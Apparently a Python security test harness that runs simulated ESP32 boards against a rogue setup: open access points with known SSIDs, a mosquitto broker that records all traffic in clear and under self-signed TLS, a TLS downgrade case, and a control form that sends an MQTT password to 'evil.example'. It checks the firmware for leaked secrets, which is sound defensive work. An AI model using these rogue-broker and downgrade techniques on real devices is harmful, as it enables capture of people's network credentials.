"""A rogue house around virtual boards: networks of known names without a password, and a broker.

The broker is a real mosquitto that lets everybody in. What comes to it is written down before it:
in clear, and behind TLS with a certificate of the rogue's own (by OpenSSL), for every name and
port. The boards are whole ones: the real firmware, its portal over HTTP, its TLS.
"""

import asyncio
import datetime
import re
import shutil
import ssl
import subprocess
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from motekit import boards, firmware, places
from motesim import AccessPoint, BoardSpec, VirtualBoard, World
from motesim.network.ports import free_port
from trust_cases import EVIL_HOSTS, EVIL_SSIDS, HOSTS, Case, Maker

PORTS = (1, 1883, 1884, 8883, 8884)
PORTAL = "setup: portal open"
CHIP = "esp32s3"
SLOW_S = 120
HOLD_S = 4
# What a person may enter at a new board: the rogue must be able to receive it.
CONTROL = "entered0by0a0person"
HIDDEN = re.compile(rb'<input[^>]*type="?hidden"?[^>]*>')
ATTRIBUTE = re.compile(rb'(name|value)="?([^" >]*)')


class Broker:
    """Mosquitto, and the record of every byte that boards sent to it."""

    def __init__(self, folder: Path) -> None:
        self.received: list[bytes] = []
        self.port = free_port()
        self._folder = folder
        self._log = folder / "mosquitto.log"
        self._servers: list[asyncio.Server] = []
        self._certificates: dict[str, ssl.SSLContext] = {}
        self._process: subprocess.Popen[bytes] | None = None

    @property
    def logins(self) -> int:
        """How many clients mosquitto has let in."""
        return self._log.read_text(errors="replace").count("New client connected")

    async def start(self) -> tuple[int, int]:
        """Return the ports in clear and with TLS."""
        file = self._folder / "mosquitto.conf"
        file.write_text(f"listener {self.port} 127.0.0.1\nallow_anonymous true\nuser root\n")
        with self._log.open("wb") as log:
            self._process = subprocess.Popen(["mosquitto", "-v", "-c", file], stderr=log)
        async with asyncio.timeout(60):
            while True:
                try:
                    (await asyncio.open_connection("127.0.0.1", self.port))[1].close()
                    break
                except OSError:
                    await asyncio.sleep(0.05)
        secured = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        secured.load_cert_chain(certificate(self._folder))
        plain = await asyncio.start_server(self._pass_on, "127.0.0.1", 0)
        tls = await asyncio.start_server(self._pass_on, "127.0.0.1", 0, ssl=secured)
        self._servers = [plain, tls]
        return plain.sockets[0].getsockname()[1], tls.sockets[0].getsockname()[1]

    async def _pass_on(self, board: asyncio.StreamReader, answer: asyncio.StreamWriter) -> None:
        broker, to_broker = await asyncio.open_connection("127.0.0.1", self.port)
        place = len(self.received)
        self.received.append(b"")

        async def back() -> None:
            while data := await broker.read(4096):
                answer.write(data)
            answer.close()

        returning = asyncio.create_task(back())
        try:
            while data := await board.read(4096):
                # A packet may come in two pieces.
                self.received[place] += data
                to_broker.write(data)
        except OSError:
            pass
        finally:
            returning.cancel()
            to_broker.close()
            answer.close()

    def close(self) -> None:
        for server in self._servers:
            server.close()
        if self._process:
            self._process.terminate()
            self._process.wait(30)


def certificate(folder: Path, *names: str) -> Path:
    """Make a key and a certificate that signs itself, for every host of the campaign."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "rogue")])
    now = datetime.datetime.now(datetime.UTC)
    day = datetime.timedelta(days=1)
    hosts = x509.SubjectAlternativeName([x509.DNSName(one.lower()) for one in (*HOSTS, *names)])
    made = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name)
        .public_key(key.public_key()).serial_number(x509.random_serial_number())
        .not_valid_before(now - day).not_valid_after(now + day)
        .add_extension(hosts, critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )  # fmt: skip
    file = folder / f"{x509.random_serial_number()}.pem"
    file.write_bytes(
        made.public_bytes(serialization.Encoding.PEM)
        + key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return file


def genuine_ca(folder: Path) -> str:
    """The certificate of an authority which the rogue has no key of."""
    return certificate(folder).read_text().partition("-----BEGIN PRIVATE")[0]


def impatient(folder: Path) -> Path:
    """The firmware, whose portal opens by itself after a second without WiFi."""
    source = folder / "source"
    shutil.copytree(places.FIRMWARE, source, ignore=shutil.ignore_patterns("__pycache__"))
    file = source / "mote" / "patience.py"
    text, count = re.subn(r"(?m)^WIFI_LOST_MS = .*$", "WIFI_LOST_MS = 1_000", file.read_text())
    assert count == 1, "patience.py has no WIFI_LOST_MS any more"
    file.write_text(text)
    # The one with the most memory: on others there is too little for TLS beside a portal.
    return firmware.build(boards.default_for(CHIP), source)


class House:
    """Runs cases on boards; `posts` and `leaks` are what came of it."""

    def __init__(self, broker: Broker, ports: tuple[int, int], tree: Path, ca: str) -> None:
        self._broker, self._ports, self._tree, self._ca = broker, ports, tree, ca
        self.posts = 0
        self.leaks: list[str] = []

    async def run(self, case: Case) -> None:
        """Post the forms of a case to a portal that has opened by itself, or was asked for."""
        assert case.stored
        document = _as_stored(case.stored, self._ca)
        before = len(self._broker.received)
        async with self._board(document, document["wifi"][0]["ssid"]) as board:
            if case.wire["reason"] != "wifi":
                # Asked for with the button it has the memory for TLS.
                since = len(board.log)
                await board.press("boot", HOLD_S)
                await board.wait_for_log(PORTAL, SLOW_S, since)
            for body in case.bodies:
                if not await self._posted(board, body):
                    break
            self._judge(case, before, board.log)

    async def control(self) -> None:
        """Show that the rogue receives what a person enters for it, in clear and over TLS."""

        async def one(more: str) -> None:
            async with self._board(None) as board:
                body = f"id=new&ssid=Evil&host=evil.example&mqtt_password={CONTROL}&{more}"
                await self._posted(board, body.encode())

        await asyncio.gather(one("port=1883"), one("port=8883&tls=1&insecure=1"))

    @asynccontextmanager
    async def _board(
        self, document: dict[str, Any] | None, *twins: str
    ) -> AsyncIterator[VirtualBoard]:
        async with World() as world:
            for ssid in (*EVIL_SSIDS, *twins):
                if ssid:
                    await world.add_access_point(AccessPoint(ssid))
            plain, tls = (("127.0.0.1", port) for port in self._ports)
            reached = {port: tls if port > 8000 else plain for port in PORTS}
            for number, name in enumerate(dict.fromkeys((*HOSTS, *EVIL_HOSTS))):
                address = name if name.replace(".", "").isdigit() else f"192.168.50.{number + 2}"
                world.add_host(name, address, reached)
            spec = BoardSpec("board", CHIP, config=document, firmware=self._tree)
            board = await world.add_board(spec)
            await board.power_on()
            await board.wait_for_log(PORTAL, SLOW_S)
            yield board

    @property
    def logins(self) -> int:
        return self._broker.logins

    @property
    def controls(self) -> int:
        """How often the rogue received what was meant for it."""
        return sum(CONTROL.encode() in one for one in self._broker.received)

    async def _posted(self, board: VirtualBoard, body: bytes) -> bool:
        """Send one form and wait for the connection test; False when the portal is gone."""
        try:
            fields = {}
            for tag in HIDDEN.findall(await _asked(board, "GET / HTTP/1.1", b"")):
                found = dict(ATTRIBUTE.findall(tag))
                fields[found[b"name"]] = found.get(b"value", b"")
            body += b"".join(b"&%s=%s" % field for field in fields.items())
            await _asked(board, "POST /save HTTP/1.1", body)
            self.posts += 1
            async with asyncio.timeout(SLOW_S):
                while b'"trying"' in (told := await _asked(board, "GET /status HTTP/1.1", b"")):
                    await asyncio.sleep(0.2)
            return b'"saved"' not in told
        except (OSError, asyncio.IncompleteReadError):
            return False

    def _judge(self, case: Case, since: int, log: list[str]) -> None:
        entered = b"".join(case.bodies)
        everything = b"\n".join(self._broker.received[since:])
        for secret in case.secrets:
            core = secret.core.encode()
            if secret.step is None and core not in entered and core in everything:
                self.leaks.append(f"portal {case.number}: the rogue has {secret.core}")
            if any(secret.core in line for line in log):
                self.leaks.append(f"portal {case.number}: the log has {secret.core}")


def _as_stored(stored: dict[str, Any], ca: str) -> dict[str, Any]:
    """The settings of a case; with TLS and an authority, one that mbedTLS can read.

    One network with a password: an open one that is known is the rogue's as well.
    """
    document = {**stored, "wifi": stored["wifi"][:1]}
    if document["mqtt"].get("ca"):
        document["mqtt"] = {**document["mqtt"], "ca": ca}
    return document


async def _asked(board: VirtualBoard, first: str, body: bytes) -> bytes:
    port: int = board.network._portal_port()  # type: ignore[attr-defined]
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        head = f"{first}\r\nHost: 192.168.4.1\r\nContent-Length: {len(body)}\r\n\r\n"
        writer.write(head.encode() + body)
        return await asyncio.wait_for(reader.read(), 60)
    finally:
        writer.close()


@asynccontextmanager
async def house(folder: Path) -> AsyncIterator[House]:
    broker = Broker(folder)
    try:
        ports = await broker.start()
        yield House(broker, ports, impatient(folder), genuine_ca(folder))
    finally:
        broker.close()


def downgrade(maker: Maker, reason: str) -> Case:
    """Make the attack that led to all this: the same server without TLS, by a foreign network."""
    made = (maker.portal(number) for number in range(10**6))
    case = next(one for one in made if one.stored and one.stored["mqtt"].get("ca"))
    assert case.stored
    server = case.stored["mqtt"]
    form = {"id": case.stored["id"], "ssid": "Evil", "password": "", "host": server["host"],
            "port": "1883", "user": server["user"], "mqtt_password": ""}  # fmt: skip
    case.bodies = [urlencode(form).encode()]
    case.wire["reason"] = reason
    return case


async def campaign(folder: Path, posts: int, seed: int, at_once: int, longest_s: float) -> House:
    """At least `posts` forms to boards, `at_once` of them, unless the time is up."""
    maker = Maker(seed)
    numbers = iter(range(10**9))
    end = asyncio.get_running_loop().time() + longest_s
    async with house(folder) as rogue:

        async def work() -> None:
            while rogue.posts < posts and asyncio.get_running_loop().time() < end:
                case = maker.portal(next(numbers))
                case.bodies = [body for body in case.bodies if body]
                await rogue.run(case)

        first = [rogue.run(downgrade(maker, reason)) for reason in ("wifi", "button")]
        await asyncio.gather(rogue.control(), *first)
        await asyncio.gather(*(work() for _ in range(at_once)))
        assert rogue.logins >= rogue.controls, "mosquitto has let nobody in"
        return rogue
